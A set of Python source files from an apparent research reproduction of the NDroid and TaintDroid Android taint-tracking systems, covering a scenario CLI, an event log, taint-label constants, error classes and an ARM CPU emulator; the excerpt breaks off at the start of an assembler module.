    bench.add_argument("--iterations", type=int, default=200)
    bench.add_argument("--repeats", type=int, default=2)
    return parser


def _command_list() -> int:
    from repro.apps import ALL_SCENARIOS
    print(f"{'name':<14} {'case':<7} description")
    for name, build in ALL_SCENARIOS.items():
        scenario = build()
        print(f"{name:<14} {scenario.case:<7} {scenario.description}")
    return 0


def _command_scenario(name: str, config: str, show_log: bool) -> int:
    from repro.apps import ALL_SCENARIOS
    from repro.apps.base import run_scenario
    from repro.bench.harness import make_platform
    if name not in ALL_SCENARIOS:
        print(f"unknown scenario {name!r}; try `repro list`",
              file=sys.stderr)
        return 2
    scenario = ALL_SCENARIOS[name]()
    platform = make_platform(config)
    run_scenario(scenario, platform)
    print(f"scenario:  {scenario.name} (case {scenario.case})")
    print(f"config:    {config}")
    print(f"expected:  taint 0x{scenario.expected_taint:x} -> "
          f"{scenario.expected_destination or '(no leak)'}")
    if show_log:
        print("\nflow log:")
        print(platform.event_log.dump())
    print("\ndetected leaks:")
    print(platform.leaks.summary())
    detected = (any(r.taint & scenario.expected_taint
                    for r in platform.leaks.records)
                if scenario.expected_taint else bool(platform.leaks.records))
    print(f"\ndetected: {detected}")
    return 0


def _command_matrix() -> int:
    from repro.apps import ALL_SCENARIOS
    from repro.apps.base import run_scenario
    from repro.bench.harness import make_platform
    print(f"{'scenario':<14} {'case':<6} {'TaintDroid':<12} {'+NDroid':<8}")
    for name, build in ALL_SCENARIOS.items():
        row = {}
        for config in ("taintdroid", "ndroid"):
            scenario = build()
            platform = make_platform(config)
            run_scenario(scenario, platform)
            if scenario.expected_taint:
                row[config] = any(r.taint & scenario.expected_taint
                                  for r in platform.leaks.records)
            else:
                row[config] = bool(platform.leaks.records)
        print(f"{name:<14} {scenario.case:<6} "
              f"{'detected' if row['taintdroid'] else 'missed':<12} "
              f"{'detected' if row['ndroid'] else 'missed':<8}")
    return 0


def _command_corpus(scale: float, seed: int) -> int:
    from repro.corpus import CorpusGenerator, analyze_corpus
    records = CorpusGenerator(seed=seed, scale=scale).generate()
    report = analyze_corpus(records)
    print(report.format_summary())
    return 0


def _command_bench(iterations: int, repeats: int) -> int:
    from repro.bench import OverheadHarness
    harness = OverheadHarness(iterations=iterations, repeats=repeats)
    for table in harness.compare_all().values():
        print(table.format())
        print()
    return 0


def main(argv: Optional[List[str]] = None) -> int:
    """Parse arguments and dispatch to a command; returns the exit code."""
    args = _build_parser().parse_args(argv)
    if args.command == "list":
        return _command_list()
    if args.command == "scenario":
        return _command_scenario(args.name, args.config, args.log)
    if args.command == "matrix":
        return _command_matrix()
    if args.command == "corpus":
        return _command_corpus(args.scale, args.seed)
    if args.command == "bench":
        return _command_bench(args.iterations, args.repeats)
    return 2  # pragma: no cover - argparse enforces the choices


if __name__ == "__main__":  # pragma: no cover
    sys.exit(main())
