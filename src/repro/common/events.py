"""Structured event log shared by all analysis engines.

The paper's figures 6-9 are annotated *logs* of the major functions on an
information flow ("NewStringUTF Begin ... add taint 514 to new string
object@0x412a3320 ...").  Rather than scattering prints, every engine in
this reproduction appends :class:`Event` records to a shared
:class:`EventLog`; tests assert on the records and the example scripts
pretty-print them, which regenerates the paper's log figures.
"""

from __future__ import annotations

from collections import deque
from dataclasses import dataclass, field
from typing import Any, Callable, Dict, Iterator, List, Optional


@dataclass(frozen=True)
class Event:
    """One log record.

    Attributes:
        source: which engine emitted it (e.g. ``"dvm_hook"``, ``"sink"``).
        kind: machine-matchable event name (e.g. ``"NewStringUTF.begin"``).
        detail: free-form human-readable message.
        data: structured payload for assertions (addresses, taints, names).
        seq: global sequence number, assigned by the log.
    """

    source: str
    kind: str
    detail: str = ""
    data: Dict[str, Any] = field(default_factory=dict)
    seq: int = -1

    def format(self) -> str:
        parts = [f"[{self.seq:06d}]", f"{self.source}:{self.kind}"]
        if self.detail:
            parts.append(self.detail)
        return " ".join(parts)


class EventLog:
    """Append-only event stream with simple query helpers.

    ``maxlen`` turns the log into a ring: long traced runs keep the most
    recent events and count the drops instead of growing without bound.
    Sequence numbers stay monotonic either way.
    """

    def __init__(self, maxlen: Optional[int] = None) -> None:
        self._events = (deque(maxlen=maxlen) if maxlen is not None
                        else [])
        self.maxlen = maxlen
        self._seq = 0
        self._subscribers: List[Callable[[Event], None]] = []
        # Hot-path callers (the per-crossing JNI emits) guard on this flag
        # before building the f-string detail and data dict; ``emit`` itself
        # still honours it so un-guarded callers behave consistently.
        self.enabled = True

    def emit(self, source: str, kind: str, detail: str = "", **data: Any) -> Event:
        if not self.enabled:
            # Detached record: not appended, not delivered to subscribers.
            return Event(source=source, kind=kind, detail=detail, data=data)
        event = Event(source=source, kind=kind, detail=detail, data=data,
                      seq=self._seq)
        self._seq += 1
        self._events.append(event)
        for subscriber in self._subscribers:
            subscriber(event)
        return event

    def subscribe(self, callback: Callable[[Event], None]) -> None:
        """Invoke ``callback`` for every subsequently emitted event."""
        self._subscribers.append(callback)

    def unsubscribe(self, callback: Callable[[Event], None]) -> None:
        """Detach a previously subscribed callback (no-op if absent)."""
        try:
            self._subscribers.remove(callback)
        except ValueError:
            pass

    @property
    def dropped(self) -> int:
        """Events evicted by the ring bound (0 when unbounded)."""
        return self._seq - len(self._events)

    def __len__(self) -> int:
        return len(self._events)

    def __iter__(self) -> Iterator[Event]:
        return iter(self._events)

    def __getitem__(self, index: int) -> Event:
        if isinstance(self._events, deque):
            return list(self._events)[index]
        return self._events[index]

    def clear(self) -> None:
        self._events.clear()
        self._seq = 0

    def find(self, kind: Optional[str] = None, source: Optional[str] = None) -> List[Event]:
        """Return events matching the given kind and/or source."""
        return [
            event
            for event in self._events
            if (kind is None or event.kind == kind)
            and (source is None or event.source == source)
        ]

    def first(self, kind: str) -> Optional[Event]:
        for event in self._events:
            if event.kind == kind:
                return event
        return None

    def last(self, kind: str) -> Optional[Event]:
        for event in reversed(self._events):
            if event.kind == kind:
                return event
        return None

    def kinds(self) -> List[str]:
        """The sequence of event kinds, for order-sensitive assertions."""
        return [event.kind for event in self._events]

    def dump(self) -> str:
        """Render the whole log, one event per line (used by examples)."""
        return "\n".join(event.format() for event in self._events)
