"""Shared primitives used across every layer of the reproduction.

This package holds the pieces that both the substrates (CPU, Dalvik VM,
kernel) and the analysis systems (TaintDroid, NDroid) agree on: the 32-bit
taint-label encoding, the structured event log, and the exception hierarchy.
"""

from repro.common.errors import (
    EmulationError,
    DecodeError,
    MemoryError_,
    DalvikError,
    JNIError,
    KernelError,
    ReproError,
)
from repro.common.events import Event, EventLog
from repro.common.taint import (
    TAINT_ACCELEROMETER,
    TAINT_ACCOUNT,
    TAINT_CAMERA,
    TAINT_CLEAR,
    TAINT_CONTACTS,
    TAINT_DEVICE_SN,
    TAINT_HISTORY,
    TAINT_ICCID,
    TAINT_IMEI,
    TAINT_IMSI,
    TAINT_LOCATION,
    TAINT_LOCATION_GPS,
    TAINT_LOCATION_LAST,
    TAINT_LOCATION_NET,
    TAINT_MIC,
    TAINT_PHONE_NUMBER,
    TAINT_SMS,
    TaintLabel,
    combine,
    describe_taint,
)

__all__ = [
    "Event",
    "EventLog",
    "ReproError",
    "EmulationError",
    "DecodeError",
    "MemoryError_",
    "DalvikError",
    "JNIError",
    "KernelError",
    "TaintLabel",
    "TAINT_CLEAR",
    "TAINT_LOCATION",
    "TAINT_CONTACTS",
    "TAINT_MIC",
    "TAINT_PHONE_NUMBER",
    "TAINT_LOCATION_GPS",
    "TAINT_LOCATION_NET",
    "TAINT_LOCATION_LAST",
    "TAINT_CAMERA",
    "TAINT_ACCELEROMETER",
    "TAINT_SMS",
    "TAINT_IMEI",
    "TAINT_IMSI",
    "TAINT_ICCID",
    "TAINT_DEVICE_SN",
    "TAINT_ACCOUNT",
    "TAINT_HISTORY",
    "combine",
    "describe_taint",
]
