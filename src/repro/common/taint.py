"""Taint labels in TaintDroid's 32-bit encoding.

TaintDroid (Enck et al., OSDI 2010) represents a taint label as a 32-bit
integer bitmask; each bit names one class of sensitive information, and
labels are merged with bitwise OR.  NDroid adopts the same encoding so its
native-side taints interoperate with TaintDroid's Java-side taints (Section
V.A of the paper: "let the taints added by NDroid follow TaintDroid's
format").

The bit assignments below follow TaintDroid's ``dalvik/vm/Common.h``.  The
paper's logs use these values directly: the QQPhoneBook flow carries
``0x202`` (SMS | contacts) and the case-3 PoC carries ``0x1602``
(ICCID | IMEI | SMS | contacts).
"""

from __future__ import annotations

# A taint label is a plain int; this alias documents intent in signatures.
TaintLabel = int

TAINT_CLEAR: TaintLabel = 0x0000_0000

TAINT_LOCATION: TaintLabel = 0x0000_0001
TAINT_CONTACTS: TaintLabel = 0x0000_0002
TAINT_MIC: TaintLabel = 0x0000_0004
TAINT_PHONE_NUMBER: TaintLabel = 0x0000_0008
TAINT_LOCATION_GPS: TaintLabel = 0x0000_0010
TAINT_LOCATION_NET: TaintLabel = 0x0000_0020
TAINT_LOCATION_LAST: TaintLabel = 0x0000_0040
TAINT_CAMERA: TaintLabel = 0x0000_0080
TAINT_ACCELEROMETER: TaintLabel = 0x0000_0100
TAINT_SMS: TaintLabel = 0x0000_0200
TAINT_IMEI: TaintLabel = 0x0000_0400
TAINT_IMSI: TaintLabel = 0x0000_0800
TAINT_ICCID: TaintLabel = 0x0000_1000
TAINT_DEVICE_SN: TaintLabel = 0x0000_2000
TAINT_ACCOUNT: TaintLabel = 0x0000_4000
TAINT_HISTORY: TaintLabel = 0x0000_8000

_TAINT_NAMES = {
    TAINT_LOCATION: "LOCATION",
    TAINT_CONTACTS: "CONTACTS",
    TAINT_MIC: "MIC",
    TAINT_PHONE_NUMBER: "PHONE_NUMBER",
    TAINT_LOCATION_GPS: "LOCATION_GPS",
    TAINT_LOCATION_NET: "LOCATION_NET",
    TAINT_LOCATION_LAST: "LOCATION_LAST",
    TAINT_CAMERA: "CAMERA",
    TAINT_ACCELEROMETER: "ACCELEROMETER",
    TAINT_SMS: "SMS",
    TAINT_IMEI: "IMEI",
    TAINT_IMSI: "IMSI",
    TAINT_ICCID: "ICCID",
    TAINT_DEVICE_SN: "DEVICE_SN",
    TAINT_ACCOUNT: "ACCOUNT",
    TAINT_HISTORY: "HISTORY",
}

ALL_TAINTS = tuple(sorted(_TAINT_NAMES))


def combine(*labels: TaintLabel) -> TaintLabel:
    """Merge taint labels with the union ("OR") operation.

    This is the single propagation primitive of both TaintDroid and NDroid:
    ``t(B) := t(B) | t(A)`` whenever information flows from A to B.
    """
    result = TAINT_CLEAR
    for label in labels:
        result |= label
    return result & 0xFFFF_FFFF


def describe_taint(label: TaintLabel) -> str:
    """Render a label as a human-readable list of source names.

    >>> describe_taint(0x202)
    'CONTACTS|SMS'
    >>> describe_taint(0)
    'CLEAR'
    """
    if label == TAINT_CLEAR:
        return "CLEAR"
    names = [name for bit, name in sorted(_TAINT_NAMES.items()) if label & bit]
    unknown = label & ~sum(_TAINT_NAMES)
    if unknown:
        names.append(f"0x{unknown:x}")
    return "|".join(names)


def has_taint(label: TaintLabel, wanted: TaintLabel) -> bool:
    """Return True if ``label`` carries any of the bits in ``wanted``."""
    return bool(label & wanted)
