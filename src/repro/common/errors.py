"""Exception hierarchy for the reproduction.

Every layer raises a subclass of :class:`ReproError`, so harness code can
catch simulation failures without masking genuine Python bugs.
"""

from __future__ import annotations

from typing import Optional


class ReproError(Exception):
    """Base class for all errors raised by the simulated platform."""


class EmulationError(ReproError):
    """The CPU emulator reached an illegal state (bad PC, unmapped fetch).

    Carries optional execution context — the faulting PC, the CPU mode
    (``"arm"``/``"thumb"``) and the raw instruction word — so crash
    reports can show where the machine died without re-introspecting it.
    """

    def __init__(self, message: str, pc: Optional[int] = None,
                 mode: Optional[str] = None,
                 word: Optional[int] = None) -> None:
        super().__init__(message)
        self.pc = pc
        self.mode = mode
        self.word = word

    def context(self) -> str:
        parts = []
        if self.pc is not None:
            parts.append(f"pc=0x{self.pc:08x}")
        if self.mode is not None:
            parts.append(f"mode={self.mode}")
        if self.word is not None:
            width = 4 if self.mode == "thumb" else 8
            parts.append(f"word=0x{self.word:0{width}x}")
        return " ".join(parts)

    def __str__(self) -> str:
        message = super().__str__()
        context = self.context()
        return f"{message} [{context}]" if context else message


class DecodeError(EmulationError):
    """An instruction word could not be decoded as ARM or Thumb."""


class MemoryError_(ReproError):
    """Access to an unmapped or protected memory address.

    Named with a trailing underscore to avoid shadowing the Python builtin.
    """

    def __init__(self, address: int, message: str = "unmapped access"):
        super().__init__(f"{message} @ 0x{address:08x}")
        self.address = address


class AssemblerError(ReproError):
    """The ARM/Thumb assembler rejected a source line."""


class DalvikError(ReproError):
    """The Dalvik VM reached an illegal state (bad register, missing class)."""


class DalvikThrow(ReproError):
    """A Java-level exception propagated out of interpreted code.

    Carries the exception object reference so JNI's ``ExceptionOccurred``
    machinery and the ``ThrowNew`` hook can inspect it.
    """

    def __init__(self, exception_ref: int, class_name: str, detail: str = ""):
        super().__init__(f"{class_name}: {detail}")
        self.exception_ref = exception_ref
        self.class_name = class_name
        self.detail = detail


class JNIError(ReproError):
    """Misuse of the JNI interface (bad indirect reference, bad shorty)."""


class KernelError(ReproError):
    """Simulated-kernel failure (bad fd, missing path, bad syscall)."""


class TransientSyscallFault(KernelError):
    """A syscall failed with a transient errno (``EINTR``/``EAGAIN``).

    Retrying the operation — or the whole analysis attempt, which is what
    the resilience supervisor does — must eventually succeed.  Carries the
    syscall name and errno value for retry policies and crash reports.
    """

    def __init__(self, syscall: str, errno_value: int):
        super().__init__(f"{syscall} failed with errno {errno_value} "
                         "(transient)")
        self.syscall = syscall
        self.errno_value = errno_value
