"""Exception hierarchy for the reproduction.

Every layer raises a subclass of :class:`ReproError`, so harness code can
catch simulation failures without masking genuine Python bugs.
"""

from __future__ import annotations


class ReproError(Exception):
    """Base class for all errors raised by the simulated platform."""


class EmulationError(ReproError):
    """The CPU emulator reached an illegal state (bad PC, unmapped fetch)."""


class DecodeError(EmulationError):
    """An instruction word could not be decoded as ARM or Thumb."""


class MemoryError_(ReproError):
    """Access to an unmapped or protected memory address.

    Named with a trailing underscore to avoid shadowing the Python builtin.
    """

    def __init__(self, address: int, message: str = "unmapped access"):
        super().__init__(f"{message} @ 0x{address:08x}")
        self.address = address


class AssemblerError(ReproError):
    """The ARM/Thumb assembler rejected a source line."""


class DalvikError(ReproError):
    """The Dalvik VM reached an illegal state (bad register, missing class)."""


class DalvikThrow(ReproError):
    """A Java-level exception propagated out of interpreted code.

    Carries the exception object reference so JNI's ``ExceptionOccurred``
    machinery and the ``ThrowNew`` hook can inspect it.
    """

    def __init__(self, exception_ref: int, class_name: str, detail: str = ""):
        super().__init__(f"{class_name}: {detail}")
        self.exception_ref = exception_ref
        self.class_name = class_name
        self.detail = detail


class JNIError(ReproError):
    """Misuse of the JNI interface (bad indirect reference, bad shorty)."""


class KernelError(ReproError):
    """Simulated-kernel failure (bad fd, missing path, bad syscall)."""
