"""The ARM register file and status flags.

This is the reproduction's ``CPUState`` — the structure NDroid's
``SourcePolicy.handler`` receives so it can read parameter registers and the
stack pointer when initialising native-side taints (Listing 1 of the paper).
"""

from __future__ import annotations

from typing import Dict, List

from repro.cpu.bits import u32

# Register aliases used throughout the ARM procedure call standard (AAPCS):
# R0-R3 carry the first four arguments and R0 the return value; R13 is SP,
# R14 is LR and R15 is PC.
SP = 13
LR = 14
PC = 15

REGISTER_NAMES = [f"r{i}" for i in range(13)] + ["sp", "lr", "pc"]


class CpuState:
    """Sixteen general-purpose registers plus NZCV flags and the Thumb bit."""

    __slots__ = ("regs", "flag_n", "flag_z", "flag_c", "flag_v", "thumb")

    def __init__(self) -> None:
        self.regs: List[int] = [0] * 16
        self.flag_n = False
        self.flag_z = False
        self.flag_c = False
        self.flag_v = False
        self.thumb = False

    # -- register access ---------------------------------------------------

    def read_reg(self, index: int) -> int:
        """Read a register; PC reads include the pipeline offset.

        On ARM, reading R15 yields the current instruction's address plus 8;
        in Thumb state, plus 4.  Generated code (PC-relative loads, ADR)
        relies on this.
        """
        if index == PC:
            return u32(self.regs[PC] + (4 if self.thumb else 8))
        return self.regs[index]

    def write_reg(self, index: int, value: int) -> None:
        self.regs[index] = u32(value)

    @property
    def sp(self) -> int:
        return self.regs[SP]

    @sp.setter
    def sp(self, value: int) -> None:
        self.regs[SP] = u32(value)

    @property
    def lr(self) -> int:
        return self.regs[LR]

    @lr.setter
    def lr(self, value: int) -> None:
        self.regs[LR] = u32(value)

    @property
    def pc(self) -> int:
        """The raw PC (address of the instruction being executed)."""
        return self.regs[PC]

    @pc.setter
    def pc(self, value: int) -> None:
        self.regs[PC] = u32(value)

    # -- flags ---------------------------------------------------------------

    def set_nz(self, result: int) -> None:
        result = u32(result)
        self.flag_n = bool(result & 0x8000_0000)
        self.flag_z = result == 0

    def cpsr(self) -> int:
        """Pack the flags into a CPSR-style word (for tests and dumps)."""
        word = 0
        if self.flag_n:
            word |= 1 << 31
        if self.flag_z:
            word |= 1 << 30
        if self.flag_c:
            word |= 1 << 29
        if self.flag_v:
            word |= 1 << 28
        if self.thumb:
            word |= 1 << 5
        return word

    def snapshot(self) -> Dict[str, int]:
        """Capture registers and flags for debugging and test assertions."""
        state = {name: self.regs[i] for i, name in enumerate(REGISTER_NAMES)}
        state["cpsr"] = self.cpsr()
        return state

    def format(self) -> str:
        rows = []
        for start in range(0, 16, 4):
            cells = [
                f"{REGISTER_NAMES[i]:>3}={self.regs[i]:08x}"
                for i in range(start, start + 4)
            ]
            rows.append("  ".join(cells))
        flags = "".join(
            name if value else name.lower()
            for name, value in [("N", self.flag_n), ("Z", self.flag_z),
                                ("C", self.flag_c), ("V", self.flag_v)]
        )
        rows.append(f"flags={flags} thumb={int(self.thumb)}")
        return "\n".join(rows)
