"""Executor for the shared ARM/Thumb instruction IR.

One executor instance drives one CPU against one memory.  ``execute``
performs a single decoded instruction and reports whether it wrote the PC
(so the fetch loop knows not to advance sequentially).

The address-computation helpers (:func:`operand2_value`,
:func:`transfer_address`, :func:`multiple_addresses`) are module-level and
side-effect-free so NDroid's instruction tracer can reuse them to compute
the very same addresses *before* the instruction executes — mirroring the
paper, where the taint handler runs "before the instruction is executed"
(Section V.G).
"""

from __future__ import annotations

from typing import Callable, List, Optional, Tuple

from repro.common.errors import EmulationError
from repro.cpu import isa
from repro.cpu.bits import asr32, lsl32, lsr32, ror32, s32, u32
from repro.cpu.isa import Cond, Op, ShiftType
from repro.cpu.state import LR, PC, SP, CpuState
from repro.memory.memory import Memory

SvcHandler = Callable[[int, CpuState, Memory], None]


def condition_passed(cpu: CpuState, cond: Cond) -> bool:
    """Evaluate an ARM condition code against the current NZCV flags."""
    n, z, c, v = cpu.flag_n, cpu.flag_z, cpu.flag_c, cpu.flag_v
    if cond == Cond.EQ:
        return z
    if cond == Cond.NE:
        return not z
    if cond == Cond.CS:
        return c
    if cond == Cond.CC:
        return not c
    if cond == Cond.MI:
        return n
    if cond == Cond.PL:
        return not n
    if cond == Cond.VS:
        return v
    if cond == Cond.VC:
        return not v
    if cond == Cond.HI:
        return c and not z
    if cond == Cond.LS:
        return (not c) or z
    if cond == Cond.GE:
        return n == v
    if cond == Cond.LT:
        return n != v
    if cond == Cond.GT:
        return (not z) and n == v
    if cond == Cond.LE:
        return z or n != v
    return True  # AL


def _apply_shift(value: int, shift_type: ShiftType, amount: int,
                 carry_in: bool, register_shift: bool) -> Tuple[int, int]:
    """Apply the barrel shifter; returns (result, carry_out or -1)."""
    if shift_type == ShiftType.LSL:
        return lsl32(value, amount)
    if shift_type == ShiftType.LSR:
        if not register_shift and amount == 0:
            amount = 32  # LSR #0 encodes LSR #32
        return lsr32(value, amount)
    if shift_type == ShiftType.ASR:
        if not register_shift and amount == 0:
            amount = 32
        return asr32(value, amount)
    # ROR (and RRX when the immediate amount is 0).
    if not register_shift and amount == 0:
        result = u32((value >> 1) | ((1 if carry_in else 0) << 31))
        return result, value & 1
    amount_mod = amount % 32
    if amount == 0:
        return u32(value), -1
    if amount_mod == 0:
        return u32(value), (value >> 31) & 1
    return ror32(value, amount_mod), (value >> (amount_mod - 1)) & 1


def operand2_value(cpu: CpuState, operand2: isa.Operand2) -> Tuple[int, int]:
    """Evaluate a flexible operand; returns (value, shifter_carry or -1)."""
    if operand2.is_immediate:
        return u32(operand2.imm), -1
    value = cpu.read_reg(operand2.rm)
    if operand2.shift_reg is not None:
        amount = cpu.read_reg(operand2.shift_reg) & 0xFF
        return _apply_shift(value, operand2.shift_type, amount,
                            cpu.flag_c, register_shift=True)
    return _apply_shift(value, operand2.shift_type, operand2.shift_imm,
                        cpu.flag_c, register_shift=False)


def transfer_address(cpu: CpuState, ir: isa.LoadStore) -> Tuple[int, int]:
    """Compute (access_address, updated_base) for a single load/store."""
    base = cpu.read_reg(ir.rn)
    if ir.rn == PC:
        base &= ~3  # PC-relative accesses use the word-aligned PC
    if ir.offset_rm is not None:
        offset, _ = _apply_shift(cpu.read_reg(ir.offset_rm), ir.shift_type,
                                 ir.shift_imm, cpu.flag_c,
                                 register_shift=False)
    else:
        offset = ir.offset_imm or 0
    target = u32(base + offset) if ir.add else u32(base - offset)
    if ir.pre_indexed:
        return target, target
    return base, target


def multiple_addresses(cpu: CpuState, ir: isa.LoadStoreMultiple) -> List[int]:
    """The ascending list of word addresses an LDM/STM will touch."""
    count = len(ir.reglist)
    base = cpu.read_reg(ir.rn)
    if ir.increment:
        start = base + 4 if ir.before else base
    else:
        start = base - 4 * count if ir.before else base - 4 * count + 4
    return [u32(start + 4 * i) for i in range(count)]


class Executor:
    """Executes decoded instructions against a CPU state and memory."""

    def __init__(self, cpu: CpuState, memory: Memory,
                 svc_handler: Optional[SvcHandler] = None) -> None:
        self.cpu = cpu
        self.memory = memory
        self.svc_handler = svc_handler

    # -- public entry point --------------------------------------------------

    def execute(self, ir: isa.Instruction) -> bool:
        """Execute ``ir``; return True when the instruction wrote the PC."""
        if not condition_passed(self.cpu, ir.cond):
            return False
        if isinstance(ir, isa.DataProcessing):
            return self._exec_data_processing(ir)
        if isinstance(ir, isa.Multiply):
            return self._exec_multiply(ir)
        if isinstance(ir, isa.MultiplyLong):
            return self._exec_multiply_long(ir)
        if isinstance(ir, isa.MoveWide):
            return self._exec_move_wide(ir)
        if isinstance(ir, isa.CountLeadingZeros):
            return self._exec_clz(ir)
        if isinstance(ir, isa.LoadStore):
            return self._exec_load_store(ir)
        if isinstance(ir, isa.LoadStoreMultiple):
            return self._exec_load_store_multiple(ir)
        if isinstance(ir, isa.Branch):
            return self._exec_branch(ir)
        if isinstance(ir, isa.BranchExchange):
            return self._exec_branch_exchange(ir)
        if isinstance(ir, isa.SoftwareInterrupt):
            if self.svc_handler is None:
                raise EmulationError(f"SVC #{ir.imm} with no handler installed")
            self.svc_handler(ir.imm, self.cpu, self.memory)
            return False
        if isinstance(ir, isa.Breakpoint):
            raise EmulationError(f"BKPT #{ir.imm} @ 0x{self.cpu.pc:08x}")
        if isinstance(ir, isa.Nop):
            return False
        raise EmulationError(f"unknown IR node {type(ir).__name__}")

    # -- helpers ---------------------------------------------------------------

    def _write_result(self, rd: int, value: int) -> bool:
        """Write an ALU/load result; writing PC is a branch."""
        if rd == PC:
            self._branch_to(value)
            return True
        self.cpu.write_reg(rd, value)
        return False

    def _branch_to(self, target: int, may_interwork: bool = True) -> None:
        if may_interwork and target & 1:
            self.cpu.thumb = True
            target &= ~1
        self.cpu.pc = target

    # -- data processing --------------------------------------------------------

    def _exec_data_processing(self, ir: isa.DataProcessing) -> bool:
        cpu = self.cpu
        operand2, shifter_carry = operand2_value(cpu, ir.operand2)
        rn_value = cpu.read_reg(ir.rn) if ir.op not in isa.UNARY_OPS else 0
        carry_in = 1 if cpu.flag_c else 0

        logical = ir.op in (Op.AND, Op.EOR, Op.TST, Op.TEQ, Op.ORR, Op.MOV,
                            Op.BIC, Op.MVN)
        overflow: Optional[bool] = None
        carry_out: Optional[int] = None

        if ir.op in (Op.AND, Op.TST):
            result = rn_value & operand2
        elif ir.op in (Op.EOR, Op.TEQ):
            result = rn_value ^ operand2
        elif ir.op == Op.ORR:
            result = rn_value | operand2
        elif ir.op == Op.BIC:
            result = rn_value & ~operand2
        elif ir.op == Op.MOV:
            result = operand2
        elif ir.op == Op.MVN:
            result = ~operand2
        elif ir.op in (Op.SUB, Op.CMP):
            result, carry_out, overflow = _sub_with_flags(rn_value, operand2, 1)
        elif ir.op == Op.RSB:
            result, carry_out, overflow = _sub_with_flags(operand2, rn_value, 1)
        elif ir.op in (Op.ADD, Op.CMN):
            result, carry_out, overflow = _add_with_flags(rn_value, operand2, 0)
        elif ir.op == Op.ADC:
            result, carry_out, overflow = _add_with_flags(rn_value, operand2,
                                                          carry_in)
        elif ir.op == Op.SBC:
            result, carry_out, overflow = _sub_with_flags(rn_value, operand2,
                                                          carry_in)
        elif ir.op == Op.RSC:
            result, carry_out, overflow = _sub_with_flags(operand2, rn_value,
                                                          carry_in)
        else:  # pragma: no cover - all 16 opcodes handled above
            raise EmulationError(f"unhandled opcode {ir.op}")

        result = u32(result)
        if ir.set_flags:
            self.cpu.set_nz(result)
            if logical:
                if shifter_carry >= 0:
                    self.cpu.flag_c = bool(shifter_carry)
            else:
                self.cpu.flag_c = bool(carry_out)
                self.cpu.flag_v = bool(overflow)

        if ir.op in isa.COMPARE_OPS:
            return False
        return self._write_result(ir.rd, result)

    def _exec_multiply(self, ir: isa.Multiply) -> bool:
        result = self.cpu.read_reg(ir.rm) * self.cpu.read_reg(ir.rs)
        if ir.accumulate:
            result += self.cpu.read_reg(ir.rn)
        result = u32(result)
        if ir.set_flags:
            self.cpu.set_nz(result)
        return self._write_result(ir.rd, result)

    def _exec_multiply_long(self, ir: isa.MultiplyLong) -> bool:
        if ir.signed:
            product = s32(self.cpu.read_reg(ir.rm)) * s32(self.cpu.read_reg(ir.rs))
        else:
            product = self.cpu.read_reg(ir.rm) * self.cpu.read_reg(ir.rs)
        if ir.accumulate:
            product += (self.cpu.read_reg(ir.rd_hi) << 32) | \
                self.cpu.read_reg(ir.rd_lo)
        product &= 0xFFFF_FFFF_FFFF_FFFF
        self.cpu.write_reg(ir.rd_lo, product & 0xFFFF_FFFF)
        self.cpu.write_reg(ir.rd_hi, product >> 32)
        if ir.set_flags:
            self.cpu.flag_n = bool(product & (1 << 63))
            self.cpu.flag_z = product == 0
        return False

    def _exec_move_wide(self, ir: isa.MoveWide) -> bool:
        if ir.top:
            value = (self.cpu.read_reg(ir.rd) & 0xFFFF) | (ir.imm16 << 16)
        else:
            value = ir.imm16
        return self._write_result(ir.rd, value)

    def _exec_clz(self, ir: isa.CountLeadingZeros) -> bool:
        value = self.cpu.read_reg(ir.rm)
        count = 32 if value == 0 else 32 - value.bit_length()
        return self._write_result(ir.rd, count)

    # -- memory transfers ----------------------------------------------------------

    def _exec_load_store(self, ir: isa.LoadStore) -> bool:
        address, updated_base = transfer_address(self.cpu, ir)
        pc_written = False
        if ir.load:
            if ir.size == 4:
                value = self.memory.read_u32(address)
            elif ir.size == 2:
                value = self.memory.read_u16(address)
                if ir.signed and value & 0x8000:
                    value |= 0xFFFF_0000
            else:
                value = self.memory.read_u8(address)
                if ir.signed and value & 0x80:
                    value |= 0xFFFF_FF00
            pc_written = self._write_result(ir.rd, value)
        else:
            value = self.cpu.read_reg(ir.rd)
            if ir.size == 4:
                self.memory.write_u32(address, value)
            elif ir.size == 2:
                self.memory.write_u16(address, value)
            else:
                self.memory.write_u8(address, value)
        if ir.writeback and not (ir.load and ir.rd == ir.rn):
            self.cpu.write_reg(ir.rn, updated_base)
        return pc_written

    def _exec_load_store_multiple(self, ir: isa.LoadStoreMultiple) -> bool:
        addresses = multiple_addresses(self.cpu, ir)
        count = len(ir.reglist)
        pc_written = False
        if ir.load:
            for register, address in zip(ir.reglist, addresses):
                value = self.memory.read_u32(address)
                if register == PC:
                    self._branch_to(value)
                    pc_written = True
                else:
                    self.cpu.write_reg(register, value)
        else:
            for register, address in zip(ir.reglist, addresses):
                self.memory.write_u32(address, self.cpu.read_reg(register))
        if ir.writeback and not (ir.load and ir.rn in ir.reglist):
            base = self.cpu.read_reg(ir.rn)
            delta = 4 * count if ir.increment else -4 * count
            self.cpu.write_reg(ir.rn, u32(base + delta))
        return pc_written

    # -- control flow -------------------------------------------------------------

    def _exec_branch(self, ir: isa.Branch) -> bool:
        pipeline = 4 if self.cpu.thumb else 8
        target = u32(self.cpu.pc + pipeline + ir.offset)
        if ir.link:
            return_address = u32(self.cpu.pc + ir.width)
            if self.cpu.thumb:
                return_address |= 1
            self.cpu.lr = return_address
        if ir.mnemonic == "blx" and self.cpu.thumb:
            # Thumb BLX immediate switches to ARM; target is word-aligned.
            self.cpu.thumb = False
            target &= ~3
        self.cpu.pc = target
        return True

    def _exec_branch_exchange(self, ir: isa.BranchExchange) -> bool:
        target = self.cpu.read_reg(ir.rm)
        if ir.link:
            return_address = u32(self.cpu.pc + ir.width)
            if self.cpu.thumb:
                return_address |= 1
            self.cpu.lr = return_address
        self.cpu.thumb = bool(target & 1)
        self.cpu.pc = target & ~1
        return True


def _add_with_flags(a: int, b: int, carry: int) -> Tuple[int, int, bool]:
    a, b = u32(a), u32(b)
    total = a + b + carry
    result = u32(total)
    carry_out = 1 if total > 0xFFFF_FFFF else 0
    overflow = ((a ^ result) & (b ^ result) & 0x8000_0000) != 0
    return result, carry_out, overflow


def _sub_with_flags(a: int, b: int, carry: int) -> Tuple[int, int, bool]:
    """a - b - (1 - carry); ARM's C flag is NOT-borrow."""
    a, b = u32(a), u32(b)
    total = a - b - (1 - carry)
    result = u32(total)
    carry_out = 1 if total >= 0 else 0
    overflow = ((a ^ b) & (a ^ result) & 0x8000_0000) != 0
    return result, carry_out, overflow
