"""A two-pass ARM/Thumb assembler.

The scenario apps in this reproduction carry real native code; this
